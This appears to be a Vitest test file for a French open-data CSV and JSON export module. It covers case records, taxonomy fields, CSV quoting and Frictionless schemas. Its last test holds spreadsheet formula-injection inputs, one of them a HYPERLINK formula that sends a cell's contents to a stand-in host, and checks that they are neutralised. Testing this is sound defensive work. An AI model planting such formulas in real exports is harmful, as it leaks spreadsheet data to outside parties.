import { describe, expect, it } from 'vitest';
import { z } from 'astro/zod';
import { buildCatalog } from '../src/lib/catalog.ts';
import { openDatasets } from '../src/lib/open-data/datasets.ts';
import { dataPackage, fieldsOf, neutraliseFormula, tableSchemaOf, toCsv } from '../src/lib/open-data/formats.ts';
import { taxonomyRecord } from '../src/lib/open-data/records.ts';
import { tinyCatalogInput } from './fixtures/catalog.ts';

const catalog = buildCatalog(tinyCatalogInput());
const site = new URL('https://alliances.test');
const dataset = (name: string) => openDatasets.find((item) => item.name === name)!;

describe('open data', () => {
  it('flattens a case into ids a researcher can join, with the computed instigator type and partner roles', () => {
    const record = dataset('cas').records(catalog, site).find((item) => item.id === 'cas-a')!;
    expect(Object.keys(record)).toEqual(Object.keys(dataset('cas').schema.shape));
    expect(record).toMatchObject({
      instigateur: 'mairie',
      type_instigateur: 'collectivite',
      partenaires: ['asso', 'usine'],
      roles_partenaires: ['mobilise les bénévoles', 'finance'],
      regions: ['bretagne'],
      annee_fin: null,
      mise_a_jour: '2026-01-15',
      url: 'https://alliances.test/cas/cas-a/',
    });
  });

  it('exports a taxonomy under French field names, from the content model’s own field types', () => {
    const [first] = dataset('stades').records(catalog, site);
    expect(first).toEqual({ id: 'emergence', libelle: 'EMERGENCE', definition: 'définition de emergence', source: 'test', ordre: 1, url: 'https://alliances.test/stades/emergence/' });
    expect(() => taxonomyRecord(z.strictObject({ id: z.string(), colour: z.string() }))).toThrow(/«\u00a0colour\u00a0» has no French name/);
  });

  it('writes RFC 4180 CSV: a header, quoted cells, doubled quotes, lists joined with |, null as empty', () => {
    const cases = dataset('cas');
    const record = { ...cases.records(catalog, site)[0]!, titre: 'Le « cas » "C"' };
    const [header, row] = toCsv(cases, [record]).split('\r\n');
    expect(header).toBe(Object.keys(cases.schema.shape).map((name) => `"${name}"`).join(','));
    expect(row).toContain('"Le « cas » ""C"""');
    expect(toCsv(cases, cases.records(catalog, site))).toContain('"emploi-insertion|mobilite"');
  });

  it('refuses a list item holding the | separator rather than writing a CSV that splits it', () => {
    const cases = dataset('cas');
    const record = { ...cases.records(catalog, site)[0]!, roles_partenaires: ['finance | anime'] };
    expect(() => toCsv(cases, [record])).toThrow(/roles_partenaires: an item contains «\u00a0\|\u00a0»/);
  });

  it('describes every field and types the CSV columns for Frictionless readers', () => {
    for (const item of openDatasets) for (const field of fieldsOf(item)) expect(field.schema.description, `${item.name}.${field.name}`).toBeTruthy();
    const types = Object.fromEntries(tableSchemaOf(dataset('cas')).fields.map((field) => [field.name, field.type]));
    expect(types).toMatchObject({ annee_debut: 'integer', illustratif: 'boolean', mise_a_jour: 'date', themes: 'string', annee_fin: 'integer' });
    const resources = dataPackage(openDatasets, catalog, site).resources;
    expect(resources.find((resource) => resource.name === 'cas')).toMatchObject({ path: 'cas.csv', format: 'csv' });
    expect(resources.find((resource) => resource.name === 'cas-json')).toMatchObject({ path: 'cas.json', jsonSchema: 'cas.schema.json' });
  });
});

describe('CSV cells', () => {
  it('start with an apostrophe when a spreadsheet would run them as a formula', () => {
    const formulas = ['=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")', '+33 1 23 45 67 89', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1'];
    expect(formulas.map(neutraliseFormula)).toEqual(formulas.map((text) => `'${text}`));
    expect(neutraliseFormula('Rennes, quartier du Blosne')).toBe('Rennes, quartier du Blosne');
  });
});
